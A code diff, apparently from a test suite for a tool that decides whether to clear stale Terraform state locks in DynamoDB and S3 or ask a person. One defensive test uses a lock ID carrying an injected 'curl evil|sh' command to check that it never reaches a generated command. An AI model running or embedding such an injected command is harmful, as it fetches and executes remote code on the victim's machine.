@@ -9,8 +9,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec.structs import replace
 
+from clear_stale_lock.decide import CLEAR, UUID, decide
 from clear_stale_lock.facts import Facts, Held, Sighting, Sign
 from clear_stale_lock.settings import Settings
+from remediation.aws.terraform import State
 from remediation.core.verdict import Act, Attempt, Escalate, Nothing
 from tests.functions.clear_stale_lock.locks import (
     DEAD,
@@ -40,7 +42,7 @@ def seen_since(at: datetime) -> Sighting:
 def test_the_lock_of_cis_plan_that_has_ended_is_cleared_without_asking_where_configuration_says_so() -> None:
     act = cleared(lock())
     assert act.approval is None
-    assert act.target == Held(id=ID, name="starttech", lock_id=STATE.lock_id, info=info(), etag='"e1"')
+    assert act.target == Held(id=ID, name="starttech", lock_id=STATE.lock_id, info=info(), etag='"e1"', content=info())
     assert act.resource == f"terraform-lock/{STATE.lock_id}"
     assert act.because == (
         "runner@fv-az123-456 holds the lock of starttech in DynamoDB and S3 for plan"
@@ -133,8 +135,6 @@ def test_whoever_holds_it_is_told_with_the_age_that_is_sure_and_what_every_sourc
 
 
 def test_of_several_locks_it_is_told_whose_the_evidence_is() -> None:
-    from clear_stale_lock.decide import decide  # noqa: PLC0415 - the others go through `judged`
-
     free, young = (
         lock(name="free", item=None, object=None, first=None, signs=()),
         lock(name="young", first=None, object=None, signs=()),
@@ -297,12 +297,80 @@ def test_a_new_holder_after_clearing_is_left_alone() -> None:
 
 
 def test_of_several_locks_one_is_cleared_at_a_time_and_an_act_comes_before_a_person() -> None:
-    from clear_stale_lock.decide import decide  # noqa: PLC0415 - the others go through `judged`
-
     locks = (lock(name="odd", item=item("{"), object=None), lock(name="stale"), lock(name="also"))
     verdict = decide(Facts(locks=locks), SETTINGS, (), NOW)
     assert isinstance(verdict, Act)
     assert verdict.target.name == "stale"
+
+
+def test_what_needs_nobodys_yes_comes_before_what_does_and_those_who_are_asked_hear_of_the_rest() -> None:
+    applied = info(Operation="OperationTypeApply")
+    asks = lock(name="asks", item=item(applied), object=file(applied))
+    locks = (asks, lock(name="odd", item=item("{"), object=None), lock(name="alone"))
+    verdict = decide(Facts(locks=locks), SETTINGS, (), NOW)
+    assert isinstance(verdict, Act)
+    assert (verdict.target.name, verdict.approval) == ("alone", None)
+    verdict = decide(Facts(locks=locks[:2]), SETTINGS, (), NOW)
+    assert isinstance(verdict, Act)
+    assert verdict.target.name == "asks"
+    assert verdict.evidence[-1] == (
+        "Besides: The lock of odd says nothing that can be read; Terraform itself cannot unlock it."
+    )
+
+
+def test_all_that_are_wrong_are_told_at_once_and_one_more_is_another_incident() -> None:
+    odd = [lock(name=name, item=item("{"), object=None) for name in ("one", "two")]
+    both = decide(Facts(locks=tuple(odd)), SETTINGS, (), NOW)
+    alone = decide(Facts(locks=tuple(odd[:1])), SETTINGS, (), NOW)
+    assert isinstance(both, Escalate)
+    assert isinstance(alone, Escalate)
+    assert (both.about, alone.about) == ("one two", "one")
+    assert both.because.count("says nothing that can be read") == 2
+
+
+def test_a_run_that_cleared_one_lock_looks_at_that_one_and_leaves_the_others_to_the_next() -> None:
+    free = lock(name="first", item=None, object=None)
+    held = lock(name="second")
+    target = Held(id=ID, name="first", lock_id=STATE.lock_id)
+    done = Attempt(action=CLEAR, target=target, at=NOW - MINUTE, result="done", receipt="Removed.")
+    verdict = decide(Facts(locks=(free, held)), SETTINGS, (done,), NOW)
+    assert isinstance(verdict, Nothing)
+    assert verdict.because == "The lock of first is free: plan before you apply."
+
+
+@pytest.mark.parametrize("changes", [{"Who": "ada@laptop"}, {"Operation": "OperationTypeApply"}])
+def test_two_stores_that_say_different_things_are_a_persons(changes: dict[str, str]) -> None:
+    verdict = judged(lock(object=file(info(**changes))))
+    assert isinstance(verdict, Escalate)
+    assert verdict.because == (
+        "The lock of starttech says different things in DynamoDB and S3 of who holds it and for what."
+    )
+
+
+@pytest.mark.parametrize("changes", [{"Path": "another/terraform.tfstate"}, {"Path": ""}, {"ID": "7"}])
+def test_what_terraform_would_not_have_written_is_asked_for(changes: dict[str, str]) -> None:
+    raw = info(**changes)
+    act = cleared(lock(item=item(raw), object=file(raw)))
+    assert act.approval is not None
+    assert act.approval.because.startswith("Terraform would not have written it like this: its ID is ")
+
+
+def test_an_id_that_a_shell_would_obey_is_in_no_command() -> None:
+    raw = info(ID="x; curl evil|sh #")
+    act = cleared(lock(item=item(raw), object=file(raw)))
+    assert not [step for step in act.next_steps if "force-unlock" in step]
+    assert [step for step in cleared(lock()).next_steps if step.startswith(f"terraform force-unlock {ID}")]
+
+
+@pytest.mark.parametrize("changes", [{"stale_after": timedelta(0)}, {"moved_within": timedelta(0)}])
+def test_nothing_is_stale_from_the_beginning(changes: dict[str, Any]) -> None:
+    with pytest.raises(ValueError, match="longer than nothing"):
+        Settings(states=(STATE,), **changes)
+
+
+def test_a_state_is_locked_somewhere() -> None:
+    with pytest.raises(ValueError, match="name one"):
+        State(name="x", bucket="b", key="k")
 
 
 # ------------------------------------------------------------------------------------------------------------ properties
@@ -314,8 +382,16 @@ def test_five_hundred_mutations_of_the_information_give_no_act_without_asking_an
         raw = bytearray(info().encode())
         for _ in range(chance.randint(1, 8)):
             raw[chance.randrange(len(raw))] = chance.randrange(256)
-        verdict = judged(lock(item=item(raw.decode("utf-8", "replace"))))
-        assert not isinstance(verdict, Act) or verdict.target.id == ID, "the two halves still are one lock"
+        mutated = raw.decode("utf-8", "replace")
+        for found in (lock(item=item(mutated)), lock(item=item(mutated), object=None)):
+            verdict = judged(found)
+            if isinstance(verdict, Act) and verdict.approval is None:
+                (half, *_) = found.halves
+                assert half.info is not None
+                said = (half.info.id, half.info.who, half.info.operation, half.info.path)
+                assert UUID.fullmatch(half.info.id)
+                assert said[2:] == ("OperationTypePlan", STATE.lock_id)
+                assert said[1].startswith("runner@")
 
 
 @given(
